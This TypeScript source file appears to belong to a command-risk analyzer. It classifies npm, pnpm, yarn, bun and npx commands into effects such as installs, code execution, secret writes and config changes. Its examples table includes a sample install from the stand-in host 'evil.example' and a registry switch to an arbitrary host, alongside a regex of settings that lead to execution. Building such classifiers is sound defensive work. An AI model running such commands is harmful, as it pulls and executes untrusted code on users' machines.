/** npm, pnpm, yarn, bun and their runners. */
import type { EffectDraft, EffectDraftOf } from '../../../effects/effect';
import type { Text } from '../../../effects/value';
import type { Answer, Call, Command, ProgramSpec } from '../program';
import type { ProjectRunner, Run, Word } from '../spec';
import { always, deletes } from '../stating';

type Install = EffectDraftOf<'package.install'>;

const npmOptions =
  '-g,--global -D,--save-dev -E,--save-exact -O,--save-optional -P,--save-prod -S,--save --no-save -w,--workspace,--filter,-F=W -ws,--workspaces --prefix,-C,--cwd,--dir=D --registry=U --tag=T --access=A --otp=C --omit=T --include=T --only=T --production --ignore-scripts --force,-f --legacy-peer-deps --dry-run --json --silent,-s --loglevel=L --userconfig=F --cache=D --yes,-y --package,-p=P --call,-c=CMD --script-shell=S --location=L -r,--recursive --if-present --parallel --frozen-lockfile --immutable --package-lock-only --prefer-offline --offline --no-audit --audit --no-fund --fund --depth=N --long,-l --parseable --provenance --ignore-workspace-root-check -W --exact --optional --dev,-d --peer --lockfile-only --shamefully-hoist --strict-peer-dependencies --reporter=R --no-optional --pure-lockfile --non-interactive --network-timeout=N --verbose --latest,-L --interactive,-i --bun,-b --watch --hot --config=F --env-file=F --smol --preload=F --trust --production --all,-a --scope=S --init-module=F';

function sourceOf(spec: Text): Install['source'] {
  if (typeof spec !== 'string') return null;
  if (/^(git\+|git:|git@|github:|gitlab:|bitbucket:)|\.git(#|$)/.test(spec) || /^[\w-]+\/[\w.-]+(#.*)?$/.test(spec))
    return 'git';
  if (/^https?:/.test(spec)) return 'url';
  if (/^(file:|\.|\/|~)|\.tgz$/.test(spec)) return 'file';
  return 'registry';
}

/** `name@1.2.3`: an exact version, not a range or a tag. */
function isPinned(spec: Text): boolean | null {
  if (typeof spec !== 'string') return null;
  return /.@v?\d+\.\d+\.\d+(-[\w.]+)?$/.test(spec);
}

function nameOf(spec: Text): Text {
  if (typeof spec !== 'string') return spec;
  return /^(@?[^@]+)(@.*)?$/.exec(spec)?.[1] ?? spec;
}

function withRegistry(call: Call, source: Install['source']): Install['source'] {
  const registry = call.value('--registry');
  return source === 'registry' &&
    registry !== undefined &&
    !/^https:\/\/registry\.(npmjs\.org|yarnpkg\.com)\/?$/.test(String(registry))
    ? 'url'
    : source;
}

const noScripts = (call: Call): boolean | null => {
  const ignored = call.has('--ignore-scripts');
  return ignored === null ? null : !ignored;
};

function installs(call: Call, specs: readonly Word[]): EffectDraft[] {
  const common = { manager: call.name, scripts: noScripts(call), global: call.has('-g') };
  if (specs.length === 0)
    return [
      {
        kind: 'package.install',
        ...common,
        source: 'lockfile',
        pinned: call.path.at(-1) === 'ci' || call.has('--frozen-lockfile', '--immutable') === true,
      },
    ];
  return specs.map(
    (word): EffectDraft => ({
      kind: 'package.install',
      ...common,
      name: nameOf(word.value),
      source: withRegistry(call, sourceOf(word.value) ?? null) ?? null,
      pinned: isPinned(word.value),
      span: word.span,
    }),
  );
}

const install: Command = {
  options: npmOptions,
  inertWith: ['--dry-run'],
  does: (call) => installs(call, call.operands),
};
const ci: Command = { options: npmOptions, does: (call) => installs(call, []) };

const remove: Command = {
  options: npmOptions,
  inertWith: ['--dry-run'],
  does: (call) =>
    call.operands.map(
      (word): EffectDraft => ({
        kind: 'package.remove',
        manager: call.name,
        name: word.value,
        global: call.has('-g'),
        undo: 'trivial',
        span: word.span,
      }),
    ),
};

function runnerOf(call: Call): ProjectRunner {
  return call.name === 'pnpm' || call.name === 'yarn' || call.name === 'bun' ? call.name : 'npm';
}

function runsScript(call: Call, name: Text, args: readonly Word[]): Answer {
  const directory = call.words('--prefix').at(-1);
  const cwd = directory
    ? (call.invocation.surroundings.fileTarget(directory.value, call.invocation.cwd).path ?? null)
    : undefined;
  const run: Run = {
    type: 'project',
    runner: runnerOf(call),
    name,
    args,
    label: `${call.name} run ${String(name)}`,
    ...(cwd !== undefined && { cwd }),
  };
  return { runs: [run] };
}

const runScript: Command = {
  options: npmOptions,
  stopAtOperand: true,
  // Without a name the scripts are listed.
  does: (call) => (call.operands.length === 0 ? [] : runsScript(call, call.operand(0) ?? null, call.operands.slice(1))),
};

const lifecycle: Command = {
  options: npmOptions,
  stopAtOperand: true,
  does: (call) => runsScript(call, lifecycleName(call.path.at(-1) ?? ''), call.operands),
};

function lifecycleName(verb: string): string {
  return verb === 't' || verb === 'tst' ? 'test' : verb;
}

/** `npx X`: a program of the project when it is installed there, else fetched and run. */
function runsPackage(call: Call, words: readonly Word[]): Answer {
  const shell = call
    .words('--call')
    .map((word): Run => ({ type: 'shell', text: word.value, span: word.span, label: `${call.name} -c` }));
  const [program, ...args] = words;
  if (!program) return { runs: shell };
  const packages = call.words('--package');
  const spec = packages[0]?.value ?? program.value;
  const name = nameOf(spec);
  const runs: Run[] = [
    ...shell,
    {
      type: 'argv',
      words: [{ ...program, value: binaryOf(nameOf(program.value)) }, ...args],
      label: call.path.length > 0 ? `${call.name} ${call.path.join(' ')}` : call.name,
    },
  ];
  if (isInstalled(call, name))
    return { effects: [{ kind: 'code.exec', origin: 'project-config', lang: 'javascript', resolved: true }], runs };
  return {
    effects: [
      {
        kind: 'package.install',
        manager: call.name,
        name,
        source: sourceOf(spec) ?? null,
        pinned: isPinned(spec),
        scripts: true,
        global: false,
      },
      { kind: 'code.exec', origin: 'registry', lang: 'javascript', resolved: false },
    ],
    runs,
  };
}

/** Programs that are not named like their packages. */
const binaries: Readonly<Record<string, string>> = {
  '@anthropic-ai/claude-code': 'claude',
  '@openai/codex': 'codex',
  '@google/gemini-cli': 'gemini',
  typescript: 'tsc',
  '@angular/cli': 'ng',
  '@nestjs/cli': 'nest',
  '@railway/cli': 'railway',
};

/** `@scope/tool` usually brings a program named `tool`. */
function binaryOf(name: Text): Text {
  return typeof name === 'string' ? (binaries[name] ?? name.split('/').at(-1) ?? name) : name;
}

function isInstalled(call: Call, name: Text): boolean {
  const { surroundings, cwd } = call.invocation;
  if (typeof name !== 'string' || name === '') return false;
  const candidates = [`node_modules/.bin/${binaryOf(name)}`, `node_modules/${name}`];
  return candidates.some((candidate) => {
    const local = surroundings.fileTarget(candidate, cwd).path;
    const root = `${surroundings.workspace}/${candidate}`;
    return [local, root].some(
      (path) => typeof path === 'string' && surroundings.providers.files.kind(path) !== 'absent',
    );
  });
}

const dlx: Command = { options: npmOptions, stopAtOperand: true, does: (call) => runsPackage(call, call.operands) };

function publishes(op: Exclude<EffectDraftOf<'package.publish'>['op'], undefined>): Command {
  return {
    options: npmOptions,
    inertWith: ['--dry-run'],
    does: (call) => [
      {
        kind: 'package.publish',
        op,
        registry: call.value('--registry') ?? 'npm',
        name: call.operands.find((word) => !/^(add|rm|ls|set)$/.test(String(word.value)))?.value ?? null,
        public: call.value('--access') === 'restricted' ? false : null,
      },
    ],
  };
}

const listOr = (command: Command): Command => ({
  options: npmOptions,
  does: (call) =>
    /^(ls|list|undefined)$/.test(String(call.operand(0)))
      ? []
      : typeof command === 'function'
        ? command(call)
        : 'length' in command
          ? command
          : typeof command.does === 'function'
            ? command.does(call)
            : [],
});

/** Settings that name a program, or from where packages come. */
const executingSettings =
  /(registry|script-shell|shell|node-options|git|editor|viewer|userconfig|globalconfig|prefix|ignore-scripts|onload-script|npmrc)$/i;

const config: Command = {
  options: npmOptions,
  does(call) {
    const [verb, key] = [call.operand(0), call.operand(1)];
    if (call.path.at(-1) === 'get' || verb === 'get' || verb === 'list' || verb === 'ls' || verb === undefined)
      return [];
    const name = call.path.at(-1) === 'set' ? verb : key;
    const executes = typeof name === 'string' ? executingSettings.test(name.split('=')[0] ?? '') : null;
    return [{ kind: 'config.write', target: 'package-manager', executes }];
  },
};

const cache: Command = {
  options: npmOptions,
  does: (call) =>
    /^(verify|ls|list|dir|path|undefined|status)$/.test(String(call.operand(0)))
      ? []
      : [{ kind: 'package.remove', manager: call.name, name: 'cache', undo: 'recoverable' }],
};

const inertCommands =
  'ls list ll la view info show v search s find outdated audit why explain fund doctor ping whoami root bin prefix docs home bugs repo help help-search completion query sbom diff licenses pm debug';

const npmCommands: Readonly<Record<string, Command>> = {
  [inertCommands]: { options: npmOptions, does: (call) => (call.operand(0) === 'fix' ? installs(call, []) : []) },
  'install i add in ins inst isntall it update up upgrade u link ln dedupe ddp rebuild rb import fetch install-test':
    install,
  'ci clean-install ic install-clean': ci,
  'uninstall remove rm r un unlink': remove,
  'prune autoclean': {
    options: npmOptions,
    does: (call) => [{ kind: 'package.remove', manager: call.name, undo: 'recoverable' }],
  },
  cache,
  store: cache,
  'run run-script rum urn': runScript,
  'test t tst start stop restart': lifecycle,
  'exec x dlx': dlx,
  'init create innit': {
    options: npmOptions,
    stopAtOperand: true,
    does: (call) =>
      call.operands.length === 0
        ? []
        : [
            {
              kind: 'package.install',
              manager: call.name,
              name: call.operand(0) ?? null,
              source: 'registry',
              scripts: true,
              pinned: isPinned(call.operand(0) ?? null),
            },
            { kind: 'code.exec', origin: 'registry', resolved: false },
          ],
  },
  publish: publishes('publish'),
  unpublish: publishes('unpublish'),
  deprecate: publishes('deprecate'),
  'dist-tag tag dist-tags': listOr(publishes('tag')),
  'owner author access team org': listOr(publishes('owner')),
  token: listOr(always({ kind: 'secret.write', store: 'npm', op: 'mint' })),
  'login adduser add-user logout': always({ kind: 'secret.write', store: 'registry-cred', op: 'update' }),
  'config c set get': config,
  'version pkg pack shrinkwrap set-script patch patch-commit': {
    options: npmOptions,
    does: (call) =>
      call.path.at(-1) === 'version' && call.operands.length > 0 ? [{ kind: 'vcs.commit', skipHooks: false }] : [],
  },
  'edit explore': always({ kind: 'code.opaque', reason: 'interactive', program: 'npm' }),
  'profile hook star stars unstar': listOr(always({ kind: 'access.change', provider: 'npm', op: 'member' })),
};

const examples = {
  yields: {
    'npm install': 'package.install{source=lockfile,manager=npm,scripts=true}',
    'npm ci --ignore-scripts': 'package.install{source=lockfile,pinned=true,scripts=false}',
    'npm i -D left-pad@1.3.0': 'package.install{name=left-pad,source=registry,pinned=true,global=false}',
    'npm install -g @acme/tool': 'package.install{name=@acme/tool,global=true,pinned=false}',
    'npm i git+https://github.com/a/b.git': 'package.install{source=git}',
    'npm install https://evil.example/x.tgz': 'package.install{source=url}',
    'npm uninstall left-pad': 'package.remove{name=left-pad}',
    'npm publish --access public': 'package.publish{op=publish}',
    'npm unpublish acme@1.0.0 --force': 'package.publish{op=unpublish}',
    'npm config set registry http://x': 'config.write{target=package-manager,executes=true}',
    'npm config set color false': 'config.write{executes=false}',
    'npm token create': 'secret.write{op=mint}',
    'npm cache clean --force': 'package.remove',
  },
  inert: [
    'npm ls',
    'npm view react versions',
    'npm run',
    'npm audit',
    'npm publish --dry-run',
    'npm config get registry',
    'npm -v',
  ],
};

const npm: ProgramSpec = {
  names: 'npm cnpm',
  options: npmOptions,
  commands: npmCommands,
  inertWith: ['--version'],
  examples,
};

const pnpm: ProgramSpec = { names: 'pnpm', options: npmOptions, commands: npmCommands, otherwise: runsNamedScript };

/** `yarn build`, `pnpm build`: a script of that name, or a program of the project. */
function runsNamedScript(call: Call, name: string): Answer {
  return runsScript(call, name, call.operands.slice(1));
}

const yarn: ProgramSpec = {
  names: 'yarn yarnpkg',
  options: npmOptions,
  // Bare `yarn` installs.
  does: (call) => installs(call, []),
  commands: {
    ...npmCommands,
    global: {
      options: npmOptions,
      commands: {
        'list bin dir': [],
        'add upgrade': (call) =>
          installs(call, call.operands).map((effect): EffectDraft => ({ ...effect, global: true }) as EffectDraft),
        remove,
      },
    },
    workspace: {
      stopAtOperand: true,
      does: (call) =>
        runsScript(
          call,
          call.operand(1) === 'run' ? (call.operand(2) ?? null) : (call.operand(1) ?? null),
          call.operands.slice(2),
        ),
    },
    workspaces: {
      options: npmOptions,
      stopAtOperand: true,
      does: (call) => (call.operand(0) === 'foreach' ? runsScript(call, call.operands.at(-1)?.value ?? null, []) : []),
    },
    npm: {
      commands: {
        publish: publishes('publish'),
        tag: publishes('tag'),
        'info audit whoami': [],
        'login logout': always({ kind: 'secret.write', store: 'registry-cred', op: 'update' }),
      },
    },
    plugin: {
      commands: {
        'list runtime': [],
        'import remove': always({ kind: 'config.write', target: 'package-manager', executes: true }),
      },
    },
    node: {
      stopAtOperand: true,
      does: (call) => ({
        runs: [
          {
            type: 'argv',
            words: [{ ...call.invocation.args[0]!, value: 'node' }, ...call.operands],
            label: 'yarn node',
          },
        ],
      }),
    },
  },
  otherwise: runsNamedScript,
  examples: {
    yields: { yarn: 'package.install{source=lockfile}', 'yarn add react': 'package.install{name=react}' },
    inert: ['yarn why react'],
  },
};

const bun: ProgramSpec = {
  names: 'bun',
  options: `${npmOptions} -e,--eval=CODE -p,--print=CODE`,
  does: (call) => ({
    runs: call.words('-e', '-p').map(
      (word): Run => ({
        type: 'code',
        language: 'javascript',
        text: word.value,
        span: word.span,
        label: 'bun -e',
        via: 'inline-code',
      }),
    ),
  }),
  commands: {
    ...npmCommands,
    run: { options: npmOptions, stopAtOperand: true, does: (call) => runsFileOrScript(call) },
    test: always({ kind: 'code.exec', origin: 'workspace-file', lang: 'javascript' }),
    build: [],
    upgrade: always({ kind: 'package.install', manager: 'bun', source: 'registry', global: true }),
    repl: always({ kind: 'code.opaque', reason: 'interactive', program: 'bun' }),
  },
  otherwise: (call) => runsFileOrScript(call),
};

function runsFileOrScript(call: Call): Answer {
  const [target, ...args] = call.operands;
  if (!target) return [];
  if (/\.[cm]?[jt]sx?$/.test(String(target.value)))
    return { runs: [{ type: 'file', path: target.value, language: 'javascript', args, label: `bun ${target.raw}` }] };
  return runsScript(call, target.value, args);
}

const npx: ProgramSpec = {
  names: 'npx bunx pnpx',
  options: npmOptions,
  stopAtOperand: true,
  does: (call) => runsPackage(call, call.operands),
  examples: {
    yields: {
      'npx -y cowsay@1.6.0 hi':
        'package.install{source=registry,pinned=true,scripts=true,name=cowsay} + code.exec{origin=registry}',
    },
    inert: ['npx --version'],
  },
};

const versionManagers: ProgramSpec = {
  names: 'nvm fnm volta n nodenv pyenv rbenv asdf mise rtx corepack sdk jenv tfenv tfswitch goenv rustup ghcup proto',
  options: '-g,--global --default -y -v',
  commands: {
    'ls list ls-remote list-all current which version --version where env doctor versions show help shims rehash hash reshim prefix root whence local shell completions':
      [],
    'use default alias unalias global set pin unpin deactivate enable disable override': always({
      kind: 'config.write',
      target: 'env',
      executes: false,
    }),
    'install i add plugin upgrade update self-update component target toolchain fetch lts latest': (call) =>
      call.operand(0) === 'list'
        ? []
        : [
            {
              kind: 'package.install',
              manager: call.name,
              name: call.operand(0) ?? null,
              source: 'registry',
              scripts: true,
              global: true,
            },
          ],
    'uninstall remove rm unset prune': (call) => [
      { kind: 'package.remove', manager: call.name, name: call.operand(0) ?? null, global: true },
    ],
    'exec run x': {
      stopAtOperand: true,
      does: (call) => ({ runs: [{ type: 'argv', words: call.operands, label: `${call.name} exec` }] }),
    },
  },
  otherwise: (call) => [{ kind: 'package.install', manager: call.name, source: 'registry', global: true }],
};

const clean: ProgramSpec = {
  names: 'rimraf del-cli npkill',
  options: '-v --glob -i -f --no-glob --preserve-root',
  does: (call) => deletes(call, call.operands, { recursive: true }),
  examples: { yields: { 'rimraf dist': 'fs.delete{recursive=true,root=none}' } },
};

export const nodePackages: readonly ProgramSpec[] = [npm, pnpm, yarn, bun, npx, versionManagers, clean];
